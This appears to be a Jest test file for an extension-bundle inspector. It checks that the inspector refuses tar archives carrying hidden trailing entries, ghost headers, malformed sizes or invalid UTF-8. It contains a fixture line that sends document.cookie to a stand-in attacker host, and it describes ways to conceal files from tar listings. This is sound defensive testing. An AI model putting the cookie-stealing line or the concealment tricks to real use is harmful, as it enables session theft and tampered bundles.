import { describe, expect, it } from '@jest/globals';
import { Readable } from 'node:stream';
import { manifestFor, rawTar, validEntries, zstd, type RawEntry } from '@extplat/testing';
import { BundleError } from './errors.js';
import { inspectBundle } from './inspect.js';

async function rejection(bytes: Buffer): Promise<BundleError> {
  try {
    await inspectBundle(Readable.from([bytes]));
  } catch (error) {
    if (error instanceof BundleError) return error;
    throw error;
  }
  throw new Error('expected the bundle to be rejected');
}

const evil: RawEntry = { name: 'ui/evil.js', data: 'fetch("https://attacker.example/" + document.cookie)' };

/** One tar header block, built by rawTar, with bytes changed after the checksum was computed (then fixed). */
function headerWith(edit: (block: Buffer) => void): Buffer {
  const block = rawTar([{ name: 'x.txt', data: '' }], { endMarker: false });
  edit(block);
  block.fill(0x20, 148, 156);
  let sum = 0;
  for (const byte of block) sum += byte;
  block.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
  return block;
}

describe('inspectBundle at the end of the tar archive', () => {
  it('refuses a second zstd frame holding another tar after the end-of-archive marker', async () => {
    // The signed-bundle attack: tar -t stops at the end marker and never lists ui/evil.js.
    const bytes = Buffer.concat([zstd(rawTar(validEntries())), zstd(rawTar([evil]))]);
    const error = await rejection(bytes);
    expect(error.code).toBe('TRAILING_DATA');
    expect(error.message).toMatch(/after the end of its tar archive/);
  });

  it('refuses an entry after a single zero block in the same frame', async () => {
    const tar = Buffer.concat([rawTar(validEntries(), { endMarker: false }), Buffer.alloc(512), rawTar([evil])]);
    expect((await rejection(zstd(tar))).code).toBe('TRAILING_DATA');
  });

  it('refuses bytes other than zeros after the end marker, however few', async () => {
    const tar = Buffer.concat([rawTar(validEntries()), Buffer.alloc(9000), Buffer.from([1])]);
    expect((await rejection(zstd(tar))).code).toBe('TRAILING_DATA');
  });

  it('accepts zero padding after the end marker: a full tar record, and zeros in a frame of their own', async () => {
    const tar = rawTar(validEntries());
    const record = Buffer.concat([tar, Buffer.alloc(10240 - (tar.length % 10240))]);
    const framed = Buffer.concat([zstd(record), zstd(Buffer.alloc(4096))]);
    const result = await inspectBundle(Readable.from([framed]));
    expect(result.files.map((file) => file.path)).toEqual(['dist/main.wasm', 'manifest.json', 'ui/index.html']);
  });

  it('accepts an archive split across zstd frames at any byte, before the end marker', async () => {
    const tar = rawTar(validEntries());
    for (const at of [1, 511, 512, 700, tar.length - 1024, tar.length - 1]) {
      const bytes = Buffer.concat([zstd(tar.subarray(0, at)), zstd(tar.subarray(at))]);
      const result = await inspectBundle(Readable.from([bytes]));
      expect(result.entryCount).toBe(5);
    }
  });

  it('refuses a header block that is empty but for its checksum (an end marker to one reader, an entry to another)', async () => {
    const ghost = Buffer.alloc(512);
    ghost.write('000400\0 ', 148, 'latin1');
    const tar = Buffer.concat([rawTar(validEntries(), { endMarker: false }), ghost, rawTar([evil])]);
    expect((await rejection(zstd(tar))).code).toBe('CORRUPT_ARCHIVE');
  });

  it('refuses a directory entry that carries data, without waiting for its never-ending entry stream', async () => {
    const directory = headerWith((block) => {
      block.write('data-dir/\0', 0, 'latin1');
      block.write('00000001000\0', 124, 'latin1');
      block.write('5', 156, 'latin1');
    });
    const tar = Buffer.concat([directory, Buffer.alloc(512, 0x41), rawTar(validEntries())]);
    // tar-stream never ends the stream of a directory with a size: a reader that waits for it hangs.
    let timer: NodeJS.Timeout | undefined;
    const hang = new Promise<never>((_, reject) => {
      timer = setTimeout(() => reject(new Error('inspectBundle hangs on a directory with data')), 20_000);
    });
    try {
      expect((await Promise.race([rejection(zstd(tar)), hang])).code).toBe('CORRUPT_ARCHIVE');
    } finally {
      clearTimeout(timer);
    }
  });

  it('refuses a size field that is not octal', async () => {
    const odd = headerWith((block) => block.write('0000000001x\0', 124, 'latin1'));
    const tar = Buffer.concat([odd, Buffer.alloc(512), rawTar(validEntries())]);
    expect((await rejection(zstd(tar))).code).toBe('CORRUPT_ARCHIVE');
  });
});

describe('inspectBundle on text that is not UTF-8', () => {
  it('refuses a manifest with invalid UTF-8 instead of replacing the bytes', async () => {
    const text = JSON.stringify(manifestFor({ displayName: 'Ticket helper @' }));
    const bytes = Buffer.from(text, 'utf8');
    bytes[bytes.indexOf('@')] = 0xff;
    const entries = validEntries().map((entry) => (entry.name === 'manifest.json' ? { ...entry, data: bytes } : entry));
    const error = await rejection(zstd(rawTar(entries)));
    expect(error.code).toBe('INVALID_MANIFEST');
    expect(error.message).toMatch(`not valid UTF-8 (invalid byte sequence at byte ${bytes.indexOf(0xff)})`);
  });

  it('still refuses a manifest that starts with a byte order mark', async () => {
    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(JSON.stringify(manifestFor()))]);
    const entries = validEntries().map((entry) => (entry.name === 'manifest.json' ? { ...entry, data: bytes } : entry));
    expect((await rejection(zstd(rawTar(entries)))).code).toBe('INVALID_MANIFEST');
  });

  it.each([
    ['a ustar name', { name: 'ui/caf\u00e9.txt', data: 'x' }],
    ['a PAX path', { name: 'ui/caf\u00e9.txt', data: 'x', paxName: true }],
  ])('refuses an entry whose name in %s is not UTF-8', async (_where, entry: RawEntry) => {
    const tar = rawTar([...validEntries(), entry]);
    // Turn the two-byte é (c3 a9) into a lone continuation byte (a9 a9).
    const at = tar.indexOf(Buffer.from([0xc3, 0xa9]));
    tar[at] = 0xa9;
    if (!entry.paxName) {
      // The ustar checksum covers the name: fix it so only the encoding is wrong.
      const start = at - (at % 512);
      const block = tar.subarray(start, start + 512);
      block.fill(0x20, 148, 156);
      let sum = 0;
      for (const byte of block) sum += byte;
      block.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
    }
    const error = await rejection(zstd(tar));
    expect(error.code).toBe('UNSAFE_PATH');
    expect(error.message).toMatch(/not valid UTF-8/);
  });
});
